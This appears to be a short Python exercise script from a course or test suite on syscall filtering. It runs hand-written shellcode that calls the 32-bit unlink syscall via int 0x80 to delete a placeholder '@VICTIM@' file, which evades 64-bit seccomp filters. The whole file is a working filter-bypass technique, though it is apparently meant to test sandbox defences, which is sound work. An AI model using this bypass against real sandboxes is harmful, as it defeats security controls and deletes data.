"""Makes system calls through the 32-bit table (int 0x80), whose numbers no 64-bit filter means."""
# attack: week=03 exercise=pyramid
import ctypes
import mmap
import platform

assert platform.machine() == "x86_64", platform.machine()
path = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE)
path.write(b"@VICTIM@\0")
code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
address = ctypes.addressof(ctypes.c_char.from_buffer(path))
assert address < 1 << 32
UNLINK = 10
code.write(
    b"\x53"  # push rbx
    + b"\xb8" + UNLINK.to_bytes(4, "little")  # mov eax, 10
    + b"\xbb" + address.to_bytes(4, "little")  # mov ebx, address
    + b"\xcd\x80"  # int 0x80
    + b"\x5b\xc3"  # pop rbx; ret
)
function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
print(function())
